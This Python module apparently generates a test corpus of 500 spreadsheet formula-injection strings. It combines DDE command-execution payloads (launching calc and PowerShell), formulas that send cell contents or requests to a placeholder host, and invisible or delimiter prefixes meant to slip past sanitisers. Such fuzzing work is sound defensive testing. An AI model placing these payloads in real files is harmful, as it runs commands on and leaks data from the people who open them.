"""Five hundred texts that spreadsheet programs may take for formulas, made from what is known to work."""

from __future__ import annotations

from itertools import product

# What a formula can do to whoever opens the sheet.
BODIES = (
    "1+1", "SUM(1;1)", "SUM(1,1)", "1+cmd|' /C calc'!A0", "cmd|'/C powershell IEX(x)'!A0", "MSEXCEL|'\\..\\calc'!a",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "WEBSERVICE(\"http://x.example\")", "IMPORTXML(\"http://x.example\";\"//a\")", "INDIRECT(\"A1\")", "A1",
    "'file:///etc/passwd'#$x.A1", "-2+3", "@SUM(A1)",
)  # fmt: skip
SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")
# What may stand before the sign and still let a cell begin with it.
BEFORE = (
    " ", "\t", "\r", "\n", "\r\n", "  \t", "\u00a0", "\u200b", "\ufeff", "\"", "'", "\"'", "x\";", "x\",", "x;", "x,",
    "x\t", "x|", "x\n", "x\";\"", "x\",\"", "1;", "\u060c", "a, ", "\u2009", "\u3000", "\u200e", "\x1f",
)  # fmt: skip
PLAIN = ("-55-12", "+1234", "=00123", "@2024", "-", "=", "+", "@", "==", "-1e5", "+0", "=-1", "00123", "1/2", "12E5")


def injections(count: int = 500) -> list[str]:
    """`count` different texts: serial numbers that look like formulas, bare attacks, then disguised ones."""
    found = dict.fromkeys((*PLAIN, *(f"{sign}{body}" for sign, body in product(SIGNS, BODIES))))
    combined = [f"{before}{sign}{body}" for before, sign, body in product(BEFORE, SIGNS, BODIES)]
    # A step that shares no factor with the number of combinations visits each of them once.
    step = 1_009
    for number in range(len(combined)):
        if len(found) == count:
            break
        found.setdefault(combined[number * step % len(combined)])
    return list(found)
